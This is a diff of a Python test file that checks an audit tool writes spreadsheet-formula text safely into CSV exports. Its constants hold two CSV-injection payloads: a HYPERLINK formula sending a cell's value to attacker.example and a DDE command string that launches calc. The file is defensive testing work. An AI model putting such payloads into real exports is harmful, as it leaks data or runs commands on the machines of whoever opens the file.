@@ -4,6 +4,7 @@ as text, and read back as they were."""
 import csv
 import io
 
+from cimem.analysis.audit.provenance import SampleSpec
 from cimem.analysis.audit.sample import SampleRow
 from cimem.analysis.audit.verdict_csv import read_verdicts, sample_records, to_csv
 from cimem.ingest import ingest_file
@@ -13,6 +14,9 @@ from fixtures import PRIVATE, SHARE, attribute, profile, write_jsonl
 
 HOSTILE_KEY = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
 HOSTILE_PROFILE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+SPEC = SampleSpec(1, 0, "official, rule unanimous")
 
 
 def hostile_run(tmp_path) -> tuple[Store, int]:
@@ -57,7 +61,9 @@ def sample_of(store: Store, run_id: int) -> list[SampleRow]:
 def test_text_that_would_run_as_a_formula_is_written_as_text(tmp_path):
     store, run_id = hostile_run(tmp_path)
     with store:
-        rows = list(csv.DictReader(io.StringIO(to_csv(sample_records(sample_of(store, run_id))))))
+        rows = list(
+            csv.DictReader(io.StringIO(to_csv(sample_records(sample_of(store, run_id), SPEC))))
+        )
     hostile = next(r for r in rows if r["attribute"].endswith('"click")'))
     assert hostile["attribute"] == "'" + HOSTILE_KEY
     assert hostile["profile"] == "'" + HOSTILE_PROFILE
@@ -71,7 +77,9 @@ def test_a_filled_sheet_reads_back_with_or_without_the_apostrophes(tmp_path):
     store, run_id = hostile_run(tmp_path)
     with store:
         attr_id = {a.key: a.attr_id for a in store.attributes_of(run_id)}[HOSTILE_KEY]
-        rows = list(csv.DictReader(io.StringIO(to_csv(sample_records(sample_of(store, run_id))))))
+        rows = list(
+            csv.DictReader(io.StringIO(to_csv(sample_records(sample_of(store, run_id), SPEC))))
+        )
         for r in rows:
             r["revealed"] = "yes"
             r["attr_id"] = ""  # found by the attribute's name alone
@@ -84,7 +92,7 @@ def test_a_filled_sheet_reads_back_with_or_without_the_apostrophes(tmp_path):
         # a spreadsheet saving the file again drops its text marks
         dropped = kept.getvalue().replace("'=", "=").replace("'+", "+").replace("'@", "@")
         for text in (kept.getvalue(), dropped):
-            verdicts, unset = read_verdicts(store, run_id, text, "filled.csv")
+            verdicts, unset, _ = read_verdicts(store, run_id, text, "filled.csv")
             assert unset == 0
             mine = next(v for v in verdicts if v.attr_id == attr_id)
             assert mine.revealed and mine.reviewer == "=ana" and mine.note == "+1 seen twice"
